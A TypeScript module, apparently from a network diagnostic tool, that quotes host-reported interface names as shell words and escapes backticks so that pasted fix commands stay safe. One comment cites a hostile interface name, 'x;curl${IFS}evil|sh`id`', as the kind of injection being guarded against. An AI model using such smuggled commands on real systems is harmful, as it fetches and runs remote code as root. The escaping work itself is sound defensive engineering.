// Builders for a finding's `fix`: the text components/findings/fix-text.tsx renders, one
// paragraph per line, code spans as commands to paste into a root shell. The markup is the
// CommonMark code span (a run of n backticks up to the next run of exactly n) plus two prose
// escapes, \` and \\. Host-reported names reach both prose and commands, and Linux accepts an
// interface named "x;curl${IFS}evil|sh`id`": in a command it must stay one quoted word, and
// its backticks must neither close the code span it sits in nor open one in prose.
import { shellWord } from "./shell-word";

// Not exported: a Code exists only as what `cmd` returns, so its words were quoted.
class CodeValue {
  // A private member makes the type nominal: a plain { text } object is not a Code.
  private readonly quoted = true;
  constructor(readonly text: string) {}
}

/** A command whose host-reported words are already quoted. */
export type Code = CodeValue;

/** Text written by netdiag itself (a placeholder such as `<nic>`, a fixed option), pasted as it is. */
export class Raw {
  constructor(readonly text: string) {}
}

export const raw = (text: string) => new Raw(text);

// Names a host means seriously never hold one, and in a command a line break would split the
// code span across two paragraphs: the reader gets a placeholder to fill in instead.
const CONTROL = /[\u0000-\u001f\u007f]/;

/**
 * A command line: every interpolated string is one shell word (quoted when it is not plain),
 * numbers are pasted as digits, `raw(...)` and other `cmd` values as they are.
 */
export function cmd(strings: TemplateStringsArray, ...args: (string | number | Raw | Code)[]): Code {
  let text = strings[0] ?? "";
  args.forEach((a, i) => {
    text += word(a) + (strings[i + 1] ?? "");
  });
  return new CodeValue(text);
}

function word(a: string | number | Raw | Code): string {
  if (a instanceof Raw || a instanceof CodeValue) return a.text;
  if (typeof a === "number") return String(a);
  return CONTROL.test(a) ? "<name>" : shellWord(a);
}

/** Prose: backticks and backslashes escaped, line breaks flattened so a name cannot start a paragraph. */
export function prose(text: string): string {
  return text.replace(/[\\`]/g, (c) => `\\${c}`).replace(/[\u0000-\u001f\u007f]/g, " ");
}

/** A code span fenced by one backtick more than the longest run inside, so nothing in it closes it early. */
export function codeSpan(c: Code): string {
  const longest = Math.max(0, ...(c.text.match(/`+/g) ?? []).map((r) => r.length));
  const fence = "`".repeat(longest + 1);
  // CommonMark strips one space from each end when both are there: padding keeps a command
  // that starts or ends with a backtick (or a space) from merging into the fence.
  const pad = /^[` ]|[` ]$/.test(c.text) ? " " : "";
  return `${fence}${pad}${c.text}${pad}${fence}`;
}

/**
 * One or more lines of fix text. The literal parts are markup (they may hold fixed commands in
 * single backticks); interpolated strings are prose, `cmd` values become code spans.
 * A string or command interpolated inside a literal code span would skip the quoting, so that
 * throws: it is a mistake in the detector, found by its tests.
 */
export function fix(strings: TemplateStringsArray, ...args: (string | number | Code)[]): string {
  let open = false;
  let text = "";
  strings.forEach((s, i) => {
    text += s;
    open = (s.match(/`/g) ?? []).length % 2 === 1 ? !open : open;
    if (i === args.length) return;
    const a = args[i] as string | number | Code;
    if (typeof a === "number") text += String(a);
    else if (open) throw new Error(`fix text: ${JSON.stringify(s)} interpolates text inside a literal code span; build the command with cmd\`\``);
    else text += a instanceof CodeValue ? codeSpan(a) : prose(a);
  });
  return text;
}
